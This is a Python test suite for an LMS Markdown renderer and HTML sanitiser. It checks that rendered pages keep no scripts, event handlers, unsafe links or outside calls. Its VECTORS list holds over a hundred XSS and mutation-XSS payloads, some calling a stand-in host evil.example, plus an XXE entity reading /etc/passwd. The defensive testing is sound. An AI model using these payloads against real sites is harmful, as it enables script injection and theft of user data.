"""Whatever an author types or pastes, no reader's browser runs it, and it calls no stranger."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.publishing.markdown import FactNote, RenderRequest, Words
from lms.publishing.markdown.page import render_here
from lms.publishing.markdown.sanitise import refused, sanitise

# Typed as Markdown or pasted as HTML; each is tried both ways, and within other things.
VECTORS = (
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script\x00>steal()</script>",
    "<img src=x onerror=steal()>",
    "<img src=x onerror='steal()'//",
    '<img """><script>steal()</script>">',
    "<img/src=`x`onerror=steal()>",
    "<img src='//evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/a 1x' src=a>",
    "<picture><source srcset=//evil.example/a></picture>",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate onbegin=steal() attributeName=x></svg>",
    "<svg><a xlink:href='javascript:steal()'><text y=9>x</text></a></svg>",
    "<svg></p><style><a title='</style><img src onerror=steal()>'>",
    "<math><mtext></p><mglyph><style><img src onerror=steal()></style></mglyph></mtext></math>",
    "<math href='javascript:steal()'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src onerror=steal()></annotation-xml></math>",
    "<iframe src='javascript:steal()'></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='data:text/html,<script>steal()</script>'></object>",
    "<embed src=//evil.example/a.swf>",
    "<applet code=Steal></applet>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<p style='background:url(https://evil.example/a)'>x</p>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=steal()>",
    "<input type=image src=x formaction=javascript:steal()>",
    "<button formaction=javascript:steal()>x</button>",
    "<textarea autofocus onfocus=steal()>",
    "<select onchange=steal()><option>1<option>2</select>",
    "<keygen autofocus onfocus=steal()>",
    "<details open ontoggle=steal()>x</details>",
    "<video><source onerror=steal()></video>",
    "<audio src=x onerror=steal()></audio>",
    "<video poster=javascript:steal()></video>",
    "<body onload=steal()>",
    "<marquee onstart=steal()>x</marquee>",
    "<isindex type=image src=x onerror=steal()>",
    "<a href='javascript:steal()'>x</a>",
    "<a href='JaVaScRiPt:steal()'>x</a>",
    "<a href='java\tscript:steal()'>x</a>",
    "<a href='java&#10;script:steal()'>x</a>",
    "<a href='&#106;&#97;vascript&colon;steal()'>x</a>",
    "<a href=' \x01javascript:steal()'>x</a>",
    "<a href='javascript:123'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://bank.example@evil.example'>x</a>",
    "<a target=_blank ping=//evil.example href=https://a.example>x</a>",
    "<a id=csrf name=cookie>x</a>",
    "<p id=location>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<noembed><img title='</noembed><img src onerror=steal()>'></noembed>",
    "<template><script>steal()</script></template>",
    "<xmp><p title='</xmp><img src onerror=steal()>'></xmp>",
    "<title><img title='</title><img src onerror=steal()>'></title>",
    "<!--><img src onerror=steal()>-->",
    "<!-- --!><img src onerror=steal()> -->",
    "<![CDATA[><img src onerror=steal()>]]>",
    "<?xml version='1.0'?><script>steal()</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<table background=javascript:steal()><td background=//evil.example/a>",
    "<p onclick=steal() onmouseover=steal()>x</p>",
    "<p class='table-scroll admin' data-action=delete>x</p>",
    "[x](javascript:steal())",
    "[x](JAVASCRIPT:steal())",
    "[x](java&#x0A;script:steal())",
    "[x](java&Tab;script:steal())",
    "[x](javascript&colon;steal())",
    "[x](<javascript:steal()>)",
    "[x](\x01javascript:steal())",
    "[x](javascript:123)",
    "[x](data:1)",
    "[x](sms:911)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:steal)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](/&#9;/evil.example)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://good.example\\@evil.example)",
    "[x](http://plain.example)",
    "[x](blob:https://a.example/1)",
    "[x](view-source:https://a.example)",
    "[x](%6aavascript:steal())",
    "<javascript:steal()>",
    "<data:text/html,steal>",
    "[x]: javascript:steal()\n\n[x]",
    "[x](/a \"onmouseover=steal() x='\")",
    "[x](/a '\"><script>steal()</script>')",
    "![x](javascript:steal())",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x" onerror="steal()](a.png)',
    "![<img src onerror=steal()>](media/a.png)",
    "![x](media/a.png \"' onerror='steal()\")",
    "`<script>steal()</script>`",
    "```html\n<script>steal()</script>\n```",
    '```"><script>steal()</script>\nx\n```',
    '``` x" onclick="steal()\nx\n```',
    "| <img src onerror=steal()> |\n|---|\n| [x](javascript:steal()) |",
    "# <img src onerror=steal()>\n\n# cookie\n\n# c-cookie",
    "x[^a]\n\n[^a]: <script>steal()</script> [x](javascript:steal())",
    'x[^"><img/src/onerror=steal()>]\n\n[^"><img/src/onerror=steal()>]: y',
    "> [!NOTE]\n> <script>steal()</script>",
    "- [x] <img src onerror=steal()>",
    "{: onclick=steal() id=csrf }\n\n# t {#csrf onclick=steal()}",
    'x{: style="color:red" }',
    "\x02script\x03steal()\x02/script\x03",
    "\x02wzxhzdk:0\x03 klzzwxh:0000",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "&amp;lt;img src onerror=steal()&amp;gt;",
    'https://a.example/"onmouseover=steal()',
    "www.evil.example/<script>steal()</script>",
    'a@b.example"onclick=steal()',
    "\ud800<script>steal()</script>",
)  # fmt: skip

CARRIERS = (
    "{}",
    "- a\n  - {}",
    "> {}",
    "**{}**",
    "| a |\n|---|\n| {} |",
    "# {}",
    "[{}](https://a.example)",
    "![{}](media/a.png)",
    '[x](https://a.example "{}")',
    "<div>\n{}\n</div>",
    "    {}",
)

_ELEMENTS = frozenset(
    ["a", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr"]
) | {"img", "input", "li", "ol", "p", "pre", "section", "span", "strong", "sup", "table", "tbody"}
_ELEMENTS |= {"td", "th", "thead", "tr", "ul"}
_ATTRIBUTES = frozenset(
    ["alt", "aria-label", "checked", "class", "disabled", "href", "id", "rel", "role", "scope"]
) | {"src", "start", "tabindex", "title", "type"}
_CLASSES = re.compile(
    r"alert alert-\w+|alert-title|back|center|language-\S+|ref|right|sources|table-scroll"
)


class _Inspector(HTMLParser):
    """Reads a page as a browser does, and notes what it should not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag not in _ELEMENTS:
            self.faults.append(f"element {tag}")
        self.faults += [f"attribute {tag} {name}" for name in given if name not in _ATTRIBUTES]
        if "href" in given:
            self._link(given)
        if re.match(r"//|[^/?#]*[:\\]", given.get("src", "")):
            self.faults.append(f"picture {given['src']}")
        if not given.get("id", "c-").startswith("c-"):
            self.faults.append(f"id {given['id']}")
        if not _CLASSES.fullmatch(given.get("class", "back")):
            self.faults.append(f"class {given['class']}")
        if tag == "input" and (given.get("type"), given.get("disabled")) != ("checkbox", ""):
            self.faults.append("a field that can be filled in")

    def _link(self, given: dict[str, str]) -> None:
        # As a browser: control characters and spaces at the ends go, tabs and line ends anywhere.
        address = re.sub(r"[\t\n\r]", "", given["href"].strip("".join(map(chr, range(33)))))
        address = address.replace("\\", "/")
        parts = urlsplit(address)
        local = not parts.scheme and not parts.netloc
        outside = parts.scheme == "https" and bool(parts.netloc) and "@" not in parts.netloc
        if not (local or outside or parts.scheme in ("mailto", "tel")):
            self.faults.append(f"link {address}")
        if given.get("rel") != "noopener noreferrer":
            self.faults.append(f"link without rel {address}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")


def _faults(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


def _request(text: str) -> RenderRequest:
    return RenderRequest(text, media={"media/a.png": "/media/1.png"})


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_an_author_types_runs_or_calls_out(vector: str) -> None:
    for carrier in CARRIERS:
        page = render_here(_request(carrier.format(vector)))
        assert _faults(page) == [], (carrier, page)


@pytest.mark.parametrize("vector", VECTORS)
def test_html_that_slips_past_the_reading_is_still_made_safe(vector: str) -> None:
    for html in (vector, f"<table><tr><td>{vector}", f"<ul><li>{vector}", f"<pre>{vector}"):
        page = sanitise(html)
        assert _faults(page) == [], page
        assert sanitise(page) == page


@pytest.mark.parametrize("vector", VECTORS)
def test_what_others_give_is_judged_as_what_an_author_types(vector: str) -> None:
    address = vector.partition("](")[2].rstrip(")") or vector
    page = render_here(
        RenderRequest(
            "a[^T1] [b](c) ![d](e)\n\n> [!NOTE]\n> x\n\n- [x] f\n\n|g|\n|-|",
            facts={"T1": FactNote(vector, vector, address, vector)},
            links={"c": address},
            media={"e": address},
            words=Words(vector, vector, vector, vector, vector, vector, {"NOTE": vector}),
        )
    )
    assert _faults(page) == [], page


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(VECTORS) | st.text(max_size=12), max_size=5).map("".join))
def test_vectors_in_any_company_stay_harmless(text: str) -> None:
    assert _faults(render_here(_request(text))) == []
    page = sanitise(text)
    assert _faults(page) == []
    assert sanitise(page) == page


@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>x</script>",
        "<p onclick=x>a</p>",
        "<a href='javascript:x' rel='noopener noreferrer'>a</a>",
        "<a href='//e.example' rel='noopener noreferrer'>a</a>",
        "<a href='/\t/e.example' rel='noopener noreferrer'>a</a>",
        "<a href='/a'>a</a>",
        "<img src='https://e.example/a'>",
        "<p id=cookie>a</p>",
        "<input>",
        "<p class=admin>a</p>",
        "<!-- a -->",
    ],
)
def test_the_inspector_sees_what_is_unsafe(unsafe: str) -> None:
    assert _faults(unsafe)


def test_an_author_is_told_what_was_taken_out() -> None:
    html = "<p style='x'>a</p><svg onload=x></svg><a href='javascript:x' title='t'>b</a>"
    assert refused(html) == ("p style=x", "<svg>", "a href=javascript:x")


def test_an_author_whose_html_is_harmless_is_told_nothing() -> None:
    assert refused("<p>a <em>b</em> <a href='https://c.example'>d</a></p>") == ()


def test_a_ready_page_is_not_changed_by_being_made_safe_again() -> None:
    page = render_here(
        _request('a[^1] é & <b> "q" \' \u00a0 [x](https://a.example?b&c)\n\n[^1]: n')
    )
    assert sanitise(page) == page
